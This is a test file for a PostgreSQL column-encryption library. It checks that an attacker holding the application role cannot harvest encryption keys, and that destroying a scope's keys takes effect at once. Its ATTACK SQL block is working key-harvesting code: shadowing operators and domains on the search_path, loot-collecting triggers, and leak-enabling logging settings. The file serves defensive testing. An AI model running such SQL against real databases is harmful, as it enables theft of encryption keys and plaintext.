// Issue 12, items 1, 2 and 4: the attacker holds only the application role's password. The
// role owns the application's table and a schema of its own, so it can create functions,
// operators, types and triggers, put its schema first on its own search_path, and switch on,
// for itself, every setting a role may set (plan dumps, client messages at LOG, bound
// parameters of a failing statement in the server log). Then the application runs as usual
// (typed helpers, rewritten SQL with an equality on a searchable column, writes, a failing
// insert, a rotation and re-encryption): no key reaches the role's table, the application's
// messages or the server log. And a destroyed scope is unreadable in a running process from
// its next call on.

import { randomBytes } from 'node:crypto';
import type { Sql } from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ErrorCodes } from '../../src/errors.js';
import { column, defineTable } from '../../src/helpers/define.js';
import { pgseal, type Pgseal } from '../../src/index.js';
import { Keyring } from '../../src/keys/keyring.js';
import { destroyScopeKeys } from '../../src/keys/lifecycle.js';
import { LocalMasterKey } from '../../src/keys/master-key.js';
import { initKeys, rotateKey } from '../../src/keys/registry.js';
import { masterLogKeys } from '../../src/keys/unwrap.js';
import { reencrypt } from '../../src/reencrypt/run.js';
import { protectColumn } from '../../src/registry/protect.js';
import { connectQuiet, createDatabase, createRole, type TestDatabase } from '../support/db.js';
import { serverLog, type ServerLog } from '../support/server-log.js';

let db: TestDatabase;
let role: { name: string; password: string };
let app: Sql; // the application's connections, as the attacker left the role
let seal: Pgseal;
let log: ServerLog | string;
const messages: string[] = []; // what the server sent the application (its stdout)
const masterBytes = randomBytes(32);
const master = new LocalMasterKey(Buffer.from(masterBytes));

const contacts = defineTable({
  name: 'contacts',
  primaryKey: 'id',
  columns: {
    id: column.plain<number>(),
    name: column.text({ searchable: true, normalize: 'trim' }),
    email: column.text(),
  },
});

const tenants = defineTable({
  name: 'tenant_notes',
  primaryKey: 'id',
  columns: { id: column.plain<number>(), body: column.text({ scope: 'tenant-x' }) },
});

/** Every key the database holds, as hex: what must never appear anywhere the attacker can look. */
async function keyHexes(): Promise<string[]> {
  const ring = new Keyring(db.sql, master);
  try {
    const out: string[] = [];
    for (const v of await ring.versions()) {
      const k = await ring.keysFor(v.version);
      if (k) out.push(k.encKey.toString('hex'), k.macKey.toString('hex'));
    }
    for (const scope of await ring.scopes()) for (const k of await ring.indexKeys(scope)) out.push(k.toString('hex'));
    return out.filter((h) => !/^0+$/.test(h));
  } finally {
    ring.close();
  }
}

const ATTACK = (owner: string) => `
create schema evil authorization "${owner}";
set role "${owner}";
create table evil.loot (how text, what text);
-- every key a transaction's settings could hold: versions 1 to 40, the scopes' active and index keys
create function evil.harvest(how text) returns void language plpgsql set search_path = pg_catalog, public as $f$
declare v int; s text;
begin
  for v in 1..40 loop
    foreach s in array array['enc_', 'mac_'] loop
      if nullif(current_setting('pgseal.' || s || lpad(to_hex(v), 8, '0'), true), '') is not null then
        insert into evil.loot values (how, current_setting('pgseal.' || s || lpad(to_hex(v), 8, '0')));
      end if;
    end loop;
  end loop;
  foreach s in array array['active_default', 'index_default', 'active_tenant$x', 'index_tenant$x'] loop
    if nullif(current_setting('pgseal.' || s, true), '') is not null then insert into evil.loot values (how, current_setting('pgseal.' || s)); end if;
  end loop;
end $f$;
create function evil.eq_text(a text, b text) returns boolean language plpgsql set search_path = pg_catalog, public as $f$
begin perform evil.harvest('operator'); insert into evil.loot values ('operand', a), ('operand', b); return a operator(pg_catalog.=) b; end $f$;
create function evil.eq_bytea(a bytea, b bytea) returns boolean language plpgsql set search_path = pg_catalog, public as $f$
begin perform evil.harvest('operator'); insert into evil.loot values ('operand', encode(a, 'hex')), ('operand', encode(b, 'hex')); return a operator(pg_catalog.=) b; end $f$;
create operator evil.= (function = evil.eq_text, leftarg = text, rightarg = text);
create operator evil.= (function = evil.eq_bytea, leftarg = bytea, rightarg = bytea);
-- types named like pg_catalog's, whose CHECK sees every value cast to them
create function evil.seen(v bytea) returns boolean language plpgsql set search_path = pg_catalog, public as $f$
begin insert into evil.loot values ('domain', encode(v, 'hex')); perform evil.harvest('domain'); return true; end $f$;
create function evil.seen_text(v text) returns boolean language plpgsql set search_path = pg_catalog, public as $f$
begin insert into evil.loot values ('domain', v); perform evil.harvest('domain'); return true; end $f$;
create domain evil.bytea as pg_catalog.bytea check (evil.seen(value));
create domain evil.text as pg_catalog.text check (evil.seen_text(value));
-- a trigger on its own table, firing inside every write (and re-encryption)
create function evil.on_write() returns trigger language plpgsql set search_path = pg_catalog, public as $f$
begin perform evil.harvest('trigger'); return new; end $f$;
create trigger evil_on_write before insert or update on public.contacts for each row execute function evil.on_write();
create trigger evil_on_write before insert or update on public.tenant_notes for each row execute function evil.on_write();
reset role;
alter role "${owner}" set search_path = evil, pg_catalog, public;
alter role "${owner}" set debug_print_plan = on;
alter role "${owner}" set debug_print_parse = on;
alter role "${owner}" set client_min_messages = log;
alter role "${owner}" set log_parameter_max_length_on_error = -1;
`;

beforeAll(async () => {
  db = await createDatabase({ migrated: true });
  log = await serverLog(db.sql);
  await db.sql`create table contacts (id int primary key)`;
  await db.sql`create table tenant_notes (id int primary key)`;
  await protectColumn(db.sql, { table: 'contacts', column: 'name', searchable: true, normalizer: 'trim' });
  await protectColumn(db.sql, { table: 'contacts', column: 'email' });
  await protectColumn(db.sql, { table: 'tenant_notes', column: 'body', scope: 'tenant-x' });
  await initKeys(db.sql, master);
  await initKeys(db.sql, master, 'tenant-x');
  role = await createRole(db.admin, 'app');
  await db.sql.unsafe(`grant pgseal_app to "${role.name}"`).catch(async () => db.sql`select pgseal.grant_api(${role.name}, 'app')`);
  await db.sql.unsafe(`alter table contacts owner to "${role.name}"; alter table tenant_notes owner to "${role.name}"`);
  await db.sql.unsafe(ATTACK(role.name));
  app = connectQuiet(db.urlAs(role.name, role.password), { max: 2, onnotice: (n) => messages.push(JSON.stringify(n)) });
  seal = pgseal({ sql: app, masterKey: master });
});

afterAll(async () => {
  await seal?.close();
  await app?.end({ timeout: 5 });
  await db.sql.unsafe(`drop owned by "${role.name}" cascade`).catch(() => undefined);
  await db?.drop();
  const admin = connectQuiet(db.url.replace(/\/[^/]*$/, '/postgres'), { max: 1 });
  await admin.unsafe(`drop role if exists "${role.name}"`).catch(() => undefined);
  await admin.end();
});

describe('an application role that shadows operators and types, owns triggers and switches leaks on', () => {
  it('the attack is armed: the role\'s session has its search_path and leak settings, and its operator runs', async () => {
    const [s] = await app<{ sp: string; plan: string; cmm: string }[]>`select current_setting('search_path') as sp, current_setting('debug_print_plan') as plan, current_setting('client_min_messages') as cmm`;
    expect(s).toEqual({ sp: 'evil, pg_catalog, public', plan: 'on', cmm: 'log' });
    await app`select 'a'::pg_catalog.text = 'a'::pg_catalog.text`;
    const [n] = await db.sql<{ n: number }[]>`select count(*)::int as n from evil.loot where how = 'operand'`;
    expect(n!.n).toBeGreaterThan(0);
    await db.sql`delete from evil.loot`;
  });

  it('leaves no key in its table, the application\'s messages or the server log, whatever path pgseal takes', async (ctx) => {
    const mark = typeof log === 'string' ? 0 : await log.mark();
    messages.length = 0;
    const t = seal.table(contacts);
    await t.insert({ id: 1, name: 'Mario Rossi', email: 'mario@example.it' });
    await t.insert({ id: 2, name: 'Anna Bianchi', email: 'anna@example.it' });
    expect((await t.findByPk(1))?.email).toBe('mario@example.it');
    expect((await t.findBy('name', 'Mario Rossi')).map((r) => r.id)).toEqual([1]);
    // rewritten SQL: an equality on a searchable column (blind index, then a re-check of the decrypted value)
    expect(await seal.query("select id, email from contacts where name = 'Mario Rossi'")).toEqual([{ id: 1, email: 'mario@example.it' }]);
    expect(await seal.query('select id from contacts where name in ($1, $2) order by id', ['Mario Rossi', 'Anna Bianchi'])).toEqual([{ id: 1 }, { id: 2 }]);
    expect(await seal.query('select id from contacts where name is not distinct from $1', ['Anna Bianchi'])).toEqual([{ id: 2 }]);
    await seal.query('insert into contacts (id, name, email) values ($1, $2, $3)', [3, 'Carlo Verdi', 'carlo@example.it']);
    await seal.query("update contacts set email = 'mario.rossi@example.it' where id = 1");
    await seal.table(tenants).insert({ id: 1, body: 'tenant secret' });
    // a failing insert, whose bound parameters (key material, plaintext) the role asked to be logged
    await expect(t.insert({ id: 1, name: 'Duplicate Person', email: 'dup@example.it' })).rejects.toThrow();
    await expect(seal.query('insert into contacts (id, name, email) values ($1, $2, $3)', [1, 'Duplicate Again', 'dup2@example.it'])).rejects.toThrow();
    // a rotation and re-encryption, run by the owner: the role's trigger fires inside every batch
    await rotateKey(db.sql, master);
    const ring = new Keyring(db.sql, master);
    try {
      const result = await reencrypt(db.sql, ring, { batchSize: 10 });
      expect(result.rows).toBeGreaterThan(0);
    } finally {
      ring.close();
    }
    expect((await t.findByPk(1))?.email).toBe('mario.rossi@example.it');

    const keys = await keyHexes();
    expect(keys.length).toBeGreaterThan(6);
    const loot = await db.sql<{ how: string; what: string }[]>`select how, what from evil.loot`;
    // the role's trigger did run (re-encryption and the helpers' writes fire it)...
    expect(loot.filter((r) => r.how === 'trigger')).toEqual([]);
    const [fired] = await db.sql<{ n: number }[]>`select count(*)::int as n from pg_catalog.pg_trigger where tgname = 'evil_on_write'`;
    expect(fired!.n).toBe(2);
    // ...yet nothing pgseal sent reached any of its functions: no setting held a key, no operator or type of its ran on pgseal's expressions
    // What remains (docs/threat-model.md): the deparser prints a cast of a constant unqualified
    // ('Mario Rossi'::text), so a literal the caller wrote in its own SQL text (which the role
    // sees in pg_stat_activity anyway) reaches a type of the role's named text. Nothing else does.
    const literals = new Set(['Mario Rossi', 'mario.rossi@example.it']);
    expect(loot.filter((r) => !(r.how === 'domain' && (r.what === null || literals.has(r.what))))).toEqual([]);
    const everything = [JSON.stringify(loot), messages.join('\n')].join('\n');
    for (const k of keys) expect(everything).not.toContain(k);
    expect(messages.join('\n')).not.toContain('Mario Rossi');
    if (typeof log === 'string') return ctx.skip(log);
    const logged = await log.since(mark);
    for (const k of keys) expect(logged).not.toContain(k);
    for (const k of keys) expect(logged).not.toContain(k.slice(0, 16).toUpperCase());
    expect(logged).not.toContain('dup@example.it');
  });

  it('documents what remains: in seal.begin (views, the caller\'s own SQL) the keys are in the transaction, and the role\'s own operator reads them', async () => {
    await db.sql`delete from evil.loot`;
    await seal.begin((tx) => tx`select 'x'::pg_catalog.text = 'y'::pg_catalog.text`);
    const loot = await db.sql<{ how: string }[]>`select how from evil.loot where how = 'operator'`;
    // docs/threat-model.md: a role with CREATE on a schema on its search_path, or owning a table the transaction writes, can do this
    expect(loot.length).toBeGreaterThan(0);
  });
});

describe('destroying a scope takes effect at once in a running process', () => {
  // database mode and client-mode writes are refused at once (the guard); client-mode reads
  // check every revocationCheckMs (0: every read, the default 1000: within a second)
  it.each([
    ['database', { crypto: 'database' as const }, 0],
    ['client, checking every read', { crypto: 'client' as const, revocationCheckMs: 0 }, 0],
    ['client, checking every second', { crypto: 'client' as const }, 1100],
  ])('refuses the next call of a process that loaded the scope\'s keys before the destroy (%s)', async (mode, options, wait) => {
    const name = `shred_${mode.replace(/\W+/g, '_')}`;
    const scope = `scope-${name}`;
    await db.sql`create table ${db.sql(name)} (id int primary key)`;
    await protectColumn(db.sql, { table: name, column: 'body', scope });
    await initKeys(db.sql, master, scope);
    // its own copy of the master key: close() zeroes it
    const running = pgseal({ sql: connectQuiet(db.url, { max: 2 }), masterKey: new LocalMasterKey(Buffer.from(masterBytes)), ...options });
    try {
      const t = running.table(defineTable({ name, primaryKey: 'id', columns: { id: column.plain<number>(), body: column.text({ scope }) } }));
      await t.insert({ id: 10, body: 'shredded soon' });
      expect((await t.findByPk(10))?.body).toBe('shredded soon');
      await destroyScopeKeys(db.sql, masterLogKeys(db.sql, master), scope, scope);
      await expect(t.insert({ id: 11, body: 'after the destroy' })).rejects.toMatchObject({ code: ErrorCodes.NO_ACTIVE_KEY });
      await new Promise((r) => setTimeout(r, wait));
      const error = await t.findByPk(10).catch((e: unknown) => e);
      expect((error as { code?: string }).code).toMatch(new RegExp(`${ErrorCodes.KEY_DESTROYED}|${ErrorCodes.UNKNOWN_KEY_VERSION}`));
    } finally {
      await running.close();
      await running.sql.end({ timeout: 5 });
    }
  });
});
